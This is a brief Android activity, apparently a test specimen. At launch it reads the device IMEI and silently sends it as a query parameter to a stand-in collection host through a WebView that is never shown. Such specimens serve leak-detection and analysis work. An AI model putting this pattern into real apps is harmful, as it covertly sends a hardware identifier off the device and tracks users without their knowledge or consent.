package com.example.specimen;

import android.app.Activity;
import android.net.Uri;
import android.os.Bundle;
import android.webkit.WebView;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        Uri address = Uri.parse("https://collect.example.com/").buildUpon().appendQueryParameter("id", Imei.read(this)).build();
        new WebView(this).loadUrl(address.toString());
    }
}
